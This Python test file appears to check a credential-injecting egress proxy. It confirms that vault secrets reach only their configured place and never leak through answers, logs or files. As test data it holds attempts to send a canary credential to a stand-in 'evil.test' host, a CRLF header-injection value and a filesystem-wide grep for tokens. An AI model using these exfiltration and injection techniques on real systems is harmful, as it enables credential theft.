#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on credentials, by the ids of the attack list: where they are put,
who brings them himself, what comes back, and what is written down."""
import base64
import gzip
import json
import os
import re
import socket
import sys
import threading
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rig import *  # noqa: E402,F403
import rig  # noqa: E402

OVER = 'canary-of-before-5521/+x'
OTHER = 'canary-of-another-kind-81'
SLOW = 'canary-of-a-slow-host-'


TOOLS = {
    'role.toml': ROLE.replace('"shell"', '"holds", "puts"'),
    'mcp/server.toml': """\
[tool.holds]
description = "Ask a host whose rule takes a placeholder"
action      = "read"
run         = { http = { method = "GET", url = "https://head.test/v1" } }
[tool.puts]
description = "Ask a host whose rule writes the form"
action      = "read"
run         = { http = { method = "GET", url = "https://good.test/v1" } }
"""}


class Kept(World):
    """Besides: a host whose TLS hangs until it is let go, rules that keep the
    cell's own credentials, and credentials of every kind."""

    NAMES = World.NAMES + ('slow.test', 'own.test', 'head.test', 'basic.test', 'kind.test',
                           'form.test', 'path.test', 'model.test')
    HOSTS = World.HOSTS + ' head.test basic.test form.test path.test'

    def ground(self):
        super().ground()
        self.slow = Origin(server_context(self.folder), listen=False)
        self.origins.append(self.slow)
        self.go = threading.Event()
        self.waiting = threading.Event()
        listener = socket.create_server(('127.0.0.1', 0))
        self.slow.port = listener.getsockname()[1]

        def hold(s):
            self.waiting.set()
            self.go.wait(PATIENCE)
            self.slow.one(s)

        def run():
            while True:
                threading.Thread(target=hold, args=(listener.accept()[0],),
                                 daemon=True).start()
        threading.Thread(target=run, daemon=True).start()

    def gates(self, more=''):
        def inject(place, credential='key'):
            return 'inject = { credential = "%s", %s }\n' % (credential, place)
        return super().gates() + \
            self.rule('slow', '', INJECT.replace('"key"', '"slow"'), self.slow.port) + \
            self.rule('own', '', 'own_credentials = true\n') + \
            self.rule('head', '', inject('header = "X-Key", placeholder = "HEAD_KEY"')) + \
            self.rule('basic', '', inject('basic = "user", placeholder = "BASIC_KEY"')) + \
            self.rule('form', '', inject('form = "token", placeholder = "FORM_KEY"')) + \
            self.rule('path', '', inject('segment = 1, placeholder = "PATH_KEY"')) + \
            self.rule('kind', '', inject('header = "X-Wrong"', 'kind')) + \
            self.rule('right', ', path = "/right/**"', inject('header = "X-Right"', 'kind'),
                      host='kind.test') + \
            self.rule('model', '') + more

    def prepare(self):
        for role in ('first', 'other'):
            for path, text in HELPER.items():
                self.house.role_file(role, path, text)
        self.house.role_file('other', 'gates.toml', self.gates())
        for path, text in TOOLS.items():
            self.house.role_file('tools', path, text)
        self.house.role_file('tools', 'gates.toml', self.gates())


rig.MAKE = Kept


def vault(*args, **more):
    return world().house.ok('vault', *args, **more)


def sent(host='good'):
    return getattr(world(), host).got


def form(host, body, kind='application/x-www-form-urlencoded', more=''):
    return to(host, head('POST /a', host, 'Content-Type: %s\r\nContent-Length: %d\r\n%s' % (
        kind, len(body), more)) + body)


# --- placeholders ---------------------------------------------------------------------

GUESS = 'hr_placeholder_' + '0' * 32


@test
def P01_P02_P16_a_placeholder_goes_to_its_place_alone():
    for talk in (to('good.test', head('GET /a?k=@MARK@')), allowed('X-Key: @MARK@\r\n'),
                 allowed(line='GET /@MARK@'),
                 allowed(line='GET /a?k=' + urllib.parse.quote('hr_') + '%70laceholder_' +
                         '0' * 32),
                 allowed(line='GET /a?k=%2568r_placeholder_' + '0' * 32),
                 allowed(line='GET /b%2568r_placeholder_' + '0' * 32),
                 allowed('X-Auth: Basic %s\r\n' % base64.b64encode(
                     b'u:' + GUESS.encode()).decode())):
        heard = executed(talk, b'403', 'placeholder')
        need(b'hr_placeholder_0' not in heard, 'it is quoted', heard)
    executed(to('place.test', head('GET /a?j=@MARK@', 'place.test')), b'403', 'place')
    executed(to('place.test', head('GET /a?k=@MARK@&l=@MARK@', 'place.test')), b'403', 'place')
    arrives(to('place.test', head('GET /a?k=@MARK@&b=c', 'place.test')))
    need(b'GET /a?k=canary-Zq8%2Fvault%2B7731%3D%3Dx&b=c ' in sent(), sent()[-300:])


@test
def P02_in_a_form_a_document_and_a_compressed_body_it_stays_what_it_is():
    # Nothing of the credential is in it, wherever the text stands.
    for host, body, kind in (
            ('form.test', 'other=' + GUESS, 'application/x-www-form-urlencoded'),
            ('api.test', '{"auth":{"key":"%s"}}' % GUESS, 'text/plain')):
        executed(form(host, body, kind), b'403', '')
    packed = gzip.compress(b'token=' + GUESS.encode()).decode('latin1')
    executed(form('form.test', packed, more='Content-Encoding: gzip\r\n'), b'403', 'Encoding')
    arrives(form('api.test', '{"auth":{}}', 'application/json'))


@test
def P03_a_placeholder_in_pieces_is_one():
    text = head('GET /a?k=' + GUESS)
    executed(to('good.test', *[text[i:i + 7] for i in range(0, len(text), 7)]), b'403',
             'placeholder')
    front, back = head('GET /a?k=@FRONT@|@BACK@&b=c', 'place.test').split('|')
    arrives(to('place.test', front, back, gap=0.1))
    need(b'?k=canary-Zq8' in sent()[-300:], sent()[-300:])


@test
def P04_P18_where_no_rule_puts_it_a_placeholder_is_text():
    # In a body it is text that somebody may speak of, and it stays that text.
    for host, rest in (('model.test', ''), ('evil.test', '/echo/')):
        had = sent() + sent('evil')
        body = json.dumps({'messages': ['use ' + GUESS]})
        arrives(to(host, head('POST ' + (rest or '/a'), host,
                              'Content-Type: application/json\r\nContent-Length: %d\r\n' %
                              len(body)) + body))
        need(GUESS.encode() in sent() + sent('evil') and had is not None, 'as it is')
    # In another field of the bound host too: published, it would be a text.
    body = '{"auth":{},"title":"%s"}' % GUESS
    with held('', 'request_outcome', arrives=True):
        cell(form('api.test', body, 'application/json'))
    need(('"title":"%s"' % GUESS).encode() in sent(), sent()[-300:])
    need(sent()[-len(body) - 60:].count(CANARY.encode()) == 1, 'only at its place')


@test
def P05_a_guessed_placeholder_and_one_of_another_cell_are_none():
    executed(to('place.test', head('GET /a?k=' + GUESS, 'place.test')), b'403', 'place')
    mark = run_cell('printenv', 'API_KEY').out.strip()
    need(re.fullmatch('hr_placeholder_[0-9a-f]{32}', mark), mark)
    executed(to('place.test', head('GET /a?k=' + mark, 'place.test')), b'403', 'place')
    other = run_cell('printenv', 'API_KEY', identity='other').out.strip()
    executed(to('place.test', head('GET /a?k=' + other, 'place.test')), b'403', 'place')
    need(len({mark, other, run_cell('printenv', 'API_KEY').out.strip()}) == 3)
    arrives(to('place.test', head('GET /a?k=@MARK@', 'place.test')))


@test
def P06_a_value_that_would_end_its_place_is_refused_or_encoded():
    w = world()
    for value in ('line\r\nX-Evil: yes', 'nul\0byte'):
        a = w.house.cli('vault', 'put', 'wrong', '--host', 'good.test', input=value)
        need(a.code != 0 and 'Evil' not in a.err, a)
    with held('place', 'request_outcome'):
        heard, = cell(form('api.test', '{}', 'application/json'))
    need(b' 403' in heard, heard)
    # In a query '/', '+' and '=' are encoded, in JSON they stand.
    arrives(to('place.test', head('GET /a?k=@MARK@', 'place.test')))
    need(b'?k=canary-Zq8%2Fvault%2B7731%3D%3Dx ' in sent(), sent()[-200:])


@test
def P07_a_body_gets_its_exact_length():
    body = '{"auth":{},"n":1.0}'
    arrives(form('api.test', body, 'application/json'))
    put = ('{"auth":{"key":"%s"},"n":1.0}' % CANARY).encode()
    need(put in sent() and b'Content-Length: %d\r\n' % len(put) in sent(), sent()[-400:])
    executed(form('api.test', '{}', 'application/json'), b'403', 'place')
    executed(form('api.test', '{}', 'text/plain'), b'403', 'json')


@test
def P10_of_two_rules_the_closer_decides_and_a_tie_does_not_load():
    w = world()
    closed(w.gates(w.rule('twin', ', path = "/**"', host='good.test')), 'twin')
    w.reload(w.gates(w.rule('near', ', path = "/near/**"',
                            'inject = { credential = "key", header = "X-Near" }\n',
                            host='good.test')))
    arrives(allowed(line='GET /near/a'))
    need(b'X-Near: ' + CANARY.encode() in sent() and b'GET /near/a' in sent(), sent()[-300:])
    w.reload(w.gates())


@test
def P11_P14_no_rule_writes_what_frames_a_message():
    w = world()
    for name in ('Host', 'Content-Length', 'Connection', 'Transfer-Encoding',
                 'Proxy-Authorization', 'X Y', 'X:Y'):
        closed(w.gates(w.rule('frames', '', 'inject = { credential = "key", header = "%s" }\n' %
                              name, host='f.test')), 'header')
    for place in ('body = "anywhere"', 'format = "{{secret}}"', 'header = "X-A", query = "b"',
                  'header = "X-A", format = "no secret"', 'header = "X-A", format = '
                  '"{{secret}}\\r\\nX: {{secret}}"'):
        closed(w.gates(w.rule('place', '', 'inject = { credential = "key", %s }\n' % place,
                              host='f.test')), 'gates.toml')
    # What the cell asks for itself chooses neither place nor form.
    had = len(sent())
    arrives(allowed('X-Key: {{secret}}\r\nX-Format: Bearer {{secret}}\r\n'))
    need(sent()[had:].count(CANARY.encode()) == 1 and b'{{secret}}' in sent()[had:],
         sent()[had:])


def grants():
    return [e for e in world().house.events() if e['kind'] == 'grant_made']


@test
def P12_without_the_vault_nothing_is_lent():
    w = world()
    pid, before = w.house.pids()['vault'], len(grants())
    os.kill(pid, 19)
    try:
        # Who hears of it late hears that there is another one by now.
        with held('the vault (is away|was started again)', kind='request_outcome',
                  seconds=60):
            ask = begin_cell('python3', '-c', CLIENT, json.dumps([to(
                'good.test', head(), wait=40)]))
            until(lambda: len(grants()) > before, 20)
            time.sleep(0.5)
            end_process(pid)
            heard, = answers(end_cell(ask), 1)
    finally:
        w.house.whole()
    need(heard.startswith(b'HTTP/1.1 503'), heard)
    arrives(allowed())


# --- brought along ---------------------------------------------------------------------

@test
def P08_a_value_of_the_vault_is_known_whoever_brings_it():
    vault('put', 'before', '--host', 'own.test', input=OVER)
    vault('rotate', 'before', input='canary-in-use-77')
    for value, says in ((OVER, 'rotated out'), ('canary-in-use-77', 'itself'),
                        (CANARY, 'itself')):
        quoted = urllib.parse.quote(value, safe='')
        for line, more in (
                ('GET /a', 'Authorization: Bearer %s\r\n' % value),
                ('GET /a', 'Authorization: mine\r\nX-Api-Key: %s\r\n' % value),
                ('GET /a', 'X-Api-Key: decoy\r\nx-api-key: %s\r\n' % value),
                ('GET /a', 'Cookie: a=b; session=%s\r\n' % value),
                ('GET /a', 'Authorization: Basic %s\r\n' % base64.b64encode(
                    ('%s:' % value).encode()).decode()),
                ('GET /a?x=y&token=' + quoted, '')):
            heard = refused(to('own.test', head(line, 'own.test', more)), b'403', says,
                            dialled=False)
            need(value.encode() not in heard, heard)
    for more in ('Authorization: Bearer mine\r\n', 'Cookie: a=b; c=d\r\n'):
        arrives(to('own.test', head('GET /a?token=mine', 'own.test', more)))


def chunks(*pieces):
    return ''.join('%x\r\n%s\r\n' % (len(p), p) for p in pieces + ('',))


@test
def P08_what_was_lent_to_a_cell_does_not_leave_by_its_hand():
    coded = base64.urlsafe_b64encode(CANARY.encode()).decode().rstrip('=')
    for line, more in (('GET /echo/' + coded, ''),
                       ('GET /echo/' + CANARY, ''),
                       ('GET /echo/?q=' + urllib.parse.quote(CANARY, safe=''), ''),
                       ('GET /echo/', 'X-Note: %s\r\n' % CANARY),
                       ('GET /echo/', 'X-Note: %s\r\n' % CANARY.encode().hex())):
        had = sent('evil')
        with held('brings a credential', arrives=True, others=['request_outcome']) as seen:
            cell(to('good.test', head()), to('evil.test', head(line, 'evil.test', more)))
        need(sent('evil') == had, 'it left')
        need(coded not in json.dumps(seen), 'the book has it', seen)
    arrives(to('evil.test', head('GET /echo/', 'evil.test', 'X-Note: nothing\r\n')))
    # In a body: of a length nothing leaves, of pieces not the whole value.
    def echo(body, more='Content-Length: %d\r\n'):
        more = more % len(body) if '%' in more else more
        return to('evil.test', head('POST /echo/', 'evil.test', more) + body)
    pieces = 'Transfer-Encoding: chunked\r\n'
    for ask, nothing in ((echo('note=' + CANARY), True), (echo('x' + coded), True),
                         (echo(chunks(CANARY[:9], CANARY[9:]), pieces), False),
                         (echo(chunks('x' * 70000, CANARY), pieces), False)):
        had = sent('evil')
        with held('brings a credential', 'request_outcome', arrives=True,
                  others=['request_outcome']):
            heard = cell(to('good.test', head()), ask)
        need(b' 403' in heard[1].split(b'\r\n')[0], heard)
        left = sent('evil')[len(had):]
        need(CANARY[9:].encode() not in left and not (nothing and left), left[-300:])
    arrives(echo('note=nothing'))
    arrives(echo(chunks('note', '=nothing'), pieces))


@test
def P09_what_is_over_when_it_would_be_written_is_not_lent():
    w = world()
    vault('put', 'slow', '--host', 'slow.test', input=SLOW + '1')
    for change, more in ((('rotate', 'slow'), {'input': SLOW + '2'}),
                         (('archive', 'slow'), {})):
        w.go.clear()
        w.waiting.clear()
        had, before = len(sent('slow')), len(grants())
        with held('over', 'request_outcome', seconds=20) as seen:
            ask = begin_cell('python3', '-c', CLIENT, json.dumps([to(
                'slow.test', head(host='slow.test'), wait=2 * PATIENCE)]))
            need(w.waiting.wait(PATIENCE), 'nobody came')
            need(len(grants()) == before + 1, 'it was granted')
            vault(*change, **more)
            w.go.set()
            heard, = answers(end_cell(ask), 1)
        need(heard.startswith(b'HTTP/1.1 502') and len(sent('slow')) == had, heard)
        need(not [e for e in seen if e['kind'] == 'request_outcome' and
                  e['body']['injected']], seen)
        if change[0] == 'archive':
            refused(to('slow.test', head(host='slow.test')), b'403', 'archived')
            vault('put', 'slow', '--host', 'slow.test', input=SLOW + '3')
        arrives(to('slow.test', head(host='slow.test')))
    for text, there in ((b'1', False), (b'2', True), (b'3', True)):
        need((SLOW.encode() + text in sent('slow')) == there, text, sent('slow'))


@test
def P12_P14_a_credential_goes_where_its_kind_says():
    w = world()
    body = {'name': 'kind', 'hosts': 'kind.test', 'kind': 'header', 'header': 'X-Right'}
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'api'))
    import vault as api
    a = w.house.post(api.AT, {**body, 'box': api.box(w.house, OTHER.encode())})
    need(a.code == 200, a)
    refused(to('kind.test', head(host='kind.test')), b'403', 'X-Right', dialled=False)
    arrives(to('kind.test', head('GET /right/a', 'kind.test')))
    need(b'X-Right: ' + OTHER.encode() in sent(), sent()[-300:])


@test
def P14_a_tool_of_the_house_shows_no_place_and_gets_no_bare_secret():
    w = world()

    def ask(tool):
        return w.house.run([{'id': 'a', 'tool': tool, 'args': {}, 'on_error': 'continue'},
                            {'id': 'end', 'tool': 'finish', 'args': {'result': {}}}],
                           queue='tools')
    with held('a tool of the house writes none', dialled=False):
        ask('holds')
    had = len(sent())
    with held('', 'request_outcome', arrives=True):
        ask('puts')
    works(b'Bearer ' + CANARY.encode() in sent()[had:], 'the other is asked', sent()[had:])


# --- answers ---------------------------------------------------------------------------

def washed(path, count=1):
    value = CANARY.encode()
    with held('', 'request_outcome', arrives=True) as seen:
        heard, = cell(to('good.test', head('GET ' + path)))
    row, = [e for e in seen if e['kind'] == 'request_outcome']
    need(row['body'].get('scrubbed', 0) >= count or 'held a cred' in json.dumps(row), row)
    for form_ in (CANARY.encode(), base64.b64encode(value)[4:20], value.hex().encode(),
                  urllib.parse.quote(CANARY, safe='').encode()):
        need(form_ not in heard, 'it came back', form_, heard)
    return heard


@test
def R01_an_echo_does_not_bring_it_back():
    need(b'removed-by-handrail' in washed('/echo'), 'rewritten')
    need(b'X-Back: removed-by-handrail' in washed('/header'), 'in a header')
    need(b'HTTP/1.1 200' in washed('/length'), 'cut behind its head')
    need(b'removed-by-handrail' in washed('/cookie'), 'in a cookie')
    need(b'Bearer' not in washed('/reason', 0).split(b'\r\n')[0], 'in the reason')
    need(b'canary' not in washed('/trailer', 0), 'in a trailer')
    had = len(sent('evil'))
    heard = arrives(to('evil.test', head('GET /echo/x', 'evil.test')))
    need(b'GET /echo/x' in heard and len(sent('evil')) > had, 'another echo is whole')


@test
def R02_neither_encoded_nor_compressed():
    for path in ('/base64', '/base64?1', '/base64?2', '/hex', '/percent', '/json'):
        need(b'removed-by-handrail' in washed(path), path)
    heard = washed('/gzip')
    need(b'removed-by-handrail' in heard and b'ontent-Encoding' not in heard, heard)
    arrives(allowed())


@test
def R03_neither_in_pieces_nor_held_back():
    for path in ('/drip', '/drip?chunks'):
        need(b'removed-by-handrail' in washed(path), path)
    # Events go on while the next one is not there: the first is seen at once.
    EVENTS.clear()
    with held('', 'request_outcome', arrives=True):
        heard, = cell(to('good.test', head('GET /events'), until='data: one'))
    EVENTS.set()
    need(b'data: one' in heard and b'data: two' not in heard, heard)
    arrives(to('good.test', head('GET /events')), b'data: two')


@test
def R05_an_error_of_the_house_quotes_no_credential():
    w = world()
    for path in ('/split?k=@MARK@', '/drop?k=@MARK@'):
        with held('', 'request_outcome', arrives=True):
            heard, = cell(to('place.test', head('GET ' + path, 'place.test')))
        need(heard.startswith(b'HTTP/1.1 502') and b'canary' not in heard and
             b'hr_placeholder' not in heard, heard)
    executed(to('place.test', head('GET /a?j=@MARK@', 'place.test')), b'403', 'place')
    need(w.good.got, 'asked')
    arrives(to('place.test', head('GET /a?k=@MARK@', 'place.test')))


@test
def R07_a_bomb_is_cut():
    with held('', 'request_outcome', arrives=True) as seen:
        heard, = cell(to('good.test', head('GET /bomb'), wait=20))
    need(len(heard) < 3 << 20, len(heard))
    need('failed' in json.dumps(seen), seen[-1:])
    heard = arrives(to('good.test', head('GET /big'), wait=20))
    need(len(heard) > 1 << 20, 'a large one is whole', len(heard))


@test
def R08_no_part_of_an_answer_is_asked_for():
    had = len(sent())
    with held('', 'request_outcome', arrives=True):
        heard, = cell(allowed('Range: bytes=0-5\r\nIf-Range: "x"\r\n', 'GET /part'))
    need(heard.startswith(b'HTTP/1.1 502') and b'piece' not in heard, heard)
    need(b'ange: ' not in sent()[had:], 'Range was sent')
    # Of the same host by a rule that injects nothing there.
    w, had = world(), len(sent())
    w.reload(w.gates(w.rule('free', ', path = "/part/free"', host='good.test')))
    with held('', 'request_outcome', arrives=True) as seen:
        heard, = cell(to('good.test', head('GET /part/free', more='Range: bytes=0-5\r\n')))
    need(heard.startswith(b'HTTP/1.1 502') and b'piece' not in heard, heard)
    need([e['rule'] for e in seen if e['kind'] == 'request_outcome'] == ['egress.free'], seen)
    need(b'ange: ' not in sent()[had:] and b'Bearer' not in sent()[had:], sent()[had:])
    w.reload(w.gates())
    arrives(to('evil.test', head('GET /echo/', 'evil.test', 'Range: bytes=0-5\r\n')))
    need(b'Range: bytes=0-5' in sent('evil'), 'elsewhere it is sent')


@test
def R09_what_was_stored_elsewhere_is_found():
    with held('', 'request_outcome', count=2, arrives=True):
        first, second = cell(to('good.test', head('GET /store/1')),
                             to('evil.test', head('GET /fetch/1', 'evil.test')))
    need(b'200' in first and b'removed-by-handrail' in second, second)
    need(CANARY.encode() not in second, second)
    with held('', 'request_outcome', count=2, arrives=True):
        cell(to('own.test', head('GET /store/2', 'own.test')), to('good.test', head()))
    heard = arrives(to('evil.test', head('GET /fetch/2', 'evil.test')))
    need(b'GET /store/2' in heard, 'an innocent one is whole')


# --- what is written down ----------------------------------------------------------------

@test
def O01_O04_no_credential_no_query_and_no_field_of_the_cells_is_written_down():
    w = world()
    with held('', 'request_outcome', arrives=True):
        cell(to('good.test', head('GET /a?said=a-query-of-mine', more='X-Mine: a-field-of-mine\r\n')))
    with held('path'):
        cell(to('evil.test', head('GET /no?said=a-query-of-mine', 'evil.test',
                                  'X-Mine: a-field-of-mine\r\n')))
    text = json.dumps(w.house.events()) + w.house.log() + w.house.get('/metrics').out
    for word in (CANARY, OVER, OTHER, 'a-query-of-mine', 'a-field-of-mine'):
        need(word not in text, word)
    found = re.search(r'hr_placeholder_[0-9a-f]{8}', text)
    need(not found, found)
    need('/a' in text and 'evil.test' in text, 'the search is blind')
    arrives(allowed(line='GET /a?said=a-query-of-mine'))
    need(b'?said=a-query-of-mine' in sent(), 'the query goes on')


@test
def O01_what_a_task_that_fails_says_is_in_no_log():
    h = world().house
    had = len(h.log())
    for text, command in (('printed-by-a-step-77', 'echo printed-by-a-step-77; exit 1'),
                          ('complained-of-88', 'echo complained-of-88 >&2; exit 1')):
        done = h.run([shell(command)])
        need(done['state'] != 'completed' and text in json.dumps(h.events()),
             text, done)
        stopped(text not in h.log()[had:], 'it is in the log', text)
    works('fails (' in h.log()[had:], 'that it fails is told', h.log()[had:])


@test
def O02_no_file_of_the_cell_holds_a_request():
    w = world()
    with held('', 'request_outcome', arrives=True):
        a = run_cell('/bin/sh', '-c', 'curl -sS -v https://good.test/a 2>/tmp/trace; '
                     'grep -rls -e canary-Zq8 -e "Bearer" / --exclude-dir=proc '
                     '--exclude-dir=sys --exclude-dir=usr 2>/dev/null; echo decoy >/tmp/d; '
                     'grep -rls decoy /tmp')
    need('/tmp/d' in a.out and 'ok' in a.out, a)
    need([x for x in a.out.replace('ok', '').split() if x != '/tmp/d'] == [], a)
    works(b'Bearer ' + CANARY.encode() in sent(), 'the origin got it')
    need(w.good.got)


if __name__ == '__main__':
    sys.exit(main())
